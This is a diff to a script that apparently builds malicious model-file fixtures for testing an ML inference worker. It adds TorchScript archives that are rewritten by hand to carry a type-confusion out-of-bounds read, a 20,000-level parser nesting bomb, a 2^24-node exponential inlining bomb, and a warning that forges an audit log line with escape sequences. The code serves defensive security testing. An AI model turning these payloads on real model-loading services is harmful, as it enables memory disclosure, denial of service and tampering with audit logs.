@@ -24,6 +24,13 @@ TorchScript (torch 2.13):
                          the all-zero warm-up: for the inference deadline)
   ts_reciprocal.pt       forward() returns 1/x[:, 0]: infinite for a zero
                          (a non-finite output is an error for its row)
+  ts_type_confusion.pt   hand-written code: unchecked_cast of an object to a
+                         bigger, unrelated class, then reads past its slots
+  ts_deep_nesting.pt     hand-written code: 20,000 nested brackets
+  ts_exponential_inlining.pt  f_n calls f_(n-1) twice, 24 deep: 16 M nodes
+                         once libtorch inlines it to run
+  ts_warning_forges_log.pt  forward() warns with escape sequences and a
+                         forged log line
 ONNX (onnx 1.23):
   onnx_external_*.onnx   a MatMul whose weight is external data at
                          'config/worker.yaml' (also with data_location as the
@@ -143,6 +150,7 @@ def torchscript():
             return 1.0 / x[:, 0]
 
     torch.jit.script(Reciprocal()).save(path("ts_reciprocal.pt"))
+    code_attacks(torch)
     torch.jit.script(FileWriter()).save(path("ts_file_writer.pt"))
     torch.jit.script(FileReader()).save(path("ts_file_reader.pt"))
     torch.jit.script(Outer()).save(path("ts_setstate_writer.pt"))
@@ -152,6 +160,102 @@ def torchscript():
     torch.jit.script(Forky()).save(path("ts_fork.pt"))
     torch.jit.script(Uninitialised()).save(path("ts_uninitialised.pt"))
     torch.jit.script(LoopOnPositive()).save(path("ts_loop_on_positive.pt"))
+
+
+def rewrite_code(src, dst, new_code):
+    """Copies a TorchScript archive with its code/__torch__.py replaced (and
+    the debug tables, which map the old code, dropped): what an attacker
+    does to write TorchScript the Python frontend would not produce."""
+    import zipfile
+    zin = zipfile.ZipFile(src)
+    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
+        for info in zin.infolist():
+            if info.filename.endswith(".debug_pkl"):
+                continue
+            data = zin.read(info.filename)
+            if info.filename.split("/", 1)[1] == "code/__torch__.py":
+                data = new_code.encode()
+            zout.writestr(info.filename, data)
+
+
+def code_attacks(torch):
+    import tempfile
+
+    @torch.jit.script
+    class Small(object):
+        def __init__(self, x: int):
+            self.a0 = x
+
+    @torch.jit.script
+    class Big(object):
+        def __init__(self, x: int):
+            self.b0 = x
+            self.b1 = x
+            self.b2 = x
+            self.b3 = x
+            self.b4 = x
+            self.b5 = x
+            self.b6 = x
+            self.b7 = x
+            self.t = torch.zeros(1)
+
+    class Base(torch.nn.Module):
+        def forward(self, x: torch.Tensor) -> torch.Tensor:
+            a = Small(1)
+            b = Big(2)
+            return x.sum(1) + float(b.b7) + float(a.a0)
+
+    base = os.path.join(tempfile.mkdtemp(), "base.pt")
+    torch.jit.script(Base()).save(base)
+    import zipfile
+    code = zipfile.ZipFile(base).read("base/code/__torch__.py").decode()
+    start = code.index("    a = __torch__.")
+    end = code.index("class ", start)
+    # an object cast to an unrelated, bigger class: reading its attribute
+    # reads past the small object's slots (libtorch checks only in debug)
+    small = code[code.index("a = __torch__.") + 4 : code.index(".__new__")]
+    big_name = [l.split(":")[0].split()[1] for l in code.splitlines() if l.startswith("class ") and "Big" in l][0]
+    cast = (
+        f"    a = {small}.__new__({small})\n"
+        f"    _0 = (a).__init__(1, )\n"
+        f"    b = unchecked_cast(__torch__.{big_name}, a)\n"
+        f"    t = b.t\n"
+        f"    return torch.add(torch.sum(x, [1]), t)\n"
+    )
+    rewrite_code(base, path("ts_type_confusion.pt"), code[:start] + cast + code[end:])
+    # 20,000 nested brackets: the TorchScript parser recurses once per level
+    deep = "(" * 20000 + "x" + ")" * 20000
+    rewrite_code(base, path("ts_deep_nesting.pt"), code[:start] + f"    return torch.sum({deep}, [1])\n" + code[end:])
+
+    # functions calling the previous one twice, 24 deep: 2^24 nodes once
+    # inlined, as libtorch compiles them to run
+    src = "import torch\ndef f0(x: torch.Tensor) -> torch.Tensor:\n    return x + 1\n"
+    for i in range(1, 25):
+        src += f"def f{i}(x: torch.Tensor) -> torch.Tensor:\n    return f{i-1}(x) + f{i-1}(x)\n"
+    mod_dir = tempfile.mkdtemp()
+    with open(os.path.join(mod_dir, "doubling.py"), "w") as f:
+        f.write(src)
+    sys.path.insert(0, mod_dir)
+    import doubling
+
+    class Doubling(torch.nn.Module):
+        def forward(self, x: torch.Tensor) -> torch.Tensor:
+            return doubling.f24(x).sum(1)
+
+    torch._C._jit_set_inline_everything_mode(False)
+    try:
+        torch.jit.script(Doubling()).save(path("ts_exponential_inlining.pt"))
+    finally:
+        torch._C._jit_set_inline_everything_mode(True)
+
+    # a warning that tries to forge a log line
+    class Warns(torch.nn.Module):
+        def forward(self, x: torch.Tensor) -> torch.Tensor:
+            warnings.warn("\x1b[2K\n2026-12-02T00:00:00Z  INFO ml_worker::audit: audit row written audit_head=1:forged")
+            return x.sum(1)
+
+    import warnings
+    torch.jit.script(Warns()).save(path("ts_warning_forges_log.pt"))
 
 
 def onnx_files():
